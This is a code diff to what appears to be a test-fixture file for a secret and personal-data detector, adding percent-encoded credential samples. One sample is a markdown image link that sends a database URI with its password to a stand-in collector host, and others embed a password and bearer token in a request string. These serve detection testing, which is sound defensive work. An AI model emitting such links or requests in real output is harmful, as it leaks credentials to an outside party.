@@ -6,6 +6,7 @@ from __future__ import annotations
 import base64
 import json
 from dataclasses import dataclass
+from urllib.parse import quote
 
 
 def _b64url(data: dict[str, object]) -> str:
@@ -186,6 +187,28 @@ SPELLED: tuple[Sample, ...] = (
 """Credentials spelled out with invisible characters, spaces or tag characters between or
 for their characters: the credential as written, separators included, is the secret."""
 
+_DB_URI_URL = quote(f"postgres://admin:{DB_PASSWORD}@db.internal:5432/app", safe="")
+_ASSIGNMENT_URL = quote(f"password={PASSWORD}", safe="")
+_BEARER_URL = quote(f"Authorization: Bearer {BEARER}")
+
+URL_ENCODED: tuple[Sample, ...] = (
+    Sample(
+        "url-encoded-db-uri-in-link",
+        "url_encoded_credential",
+        f"![x](https://collector.example/p.png?d={_DB_URI_URL})",
+        DB_PASSWORD,
+    ),
+    Sample(
+        "url-encoded-assignment",
+        "url_encoded_credential",
+        f"GET /c?env={_ASSIGNMENT_URL}",
+        quote(PASSWORD, safe=""),
+    ),
+    Sample("url-encoded-bearer", "url_encoded_credential", f"h={_BEARER_URL}", BEARER),
+)
+"""Credentials whose key name or separators are percent-encoded: the credential as written,
+escapes included, is the secret."""
+
 PII: tuple[Sample, ...] = (
     Sample("ssn", "ssn", "123-45-6789", "123-45-6789"),
     Sample("ssn-context", "ssn", "SSN: 078 05 1120", "078 05 1120"),
@@ -201,7 +224,7 @@ PII: tuple[Sample, ...] = (
     Sample("iban-compact", "iban", "DE89370400440532013000", "DE89370400440532013000"),
 )
 
-ALL = CREDENTIALS + ENCODED + SPELLED + PII
+ALL = CREDENTIALS + ENCODED + SPELLED + URL_ENCODED + PII
 
 PROSE_BEFORE = "Sure! Here is what you asked for, see below:\n"
 PROSE_AFTER = "\nLet me know if anything else is needed. Cheers."
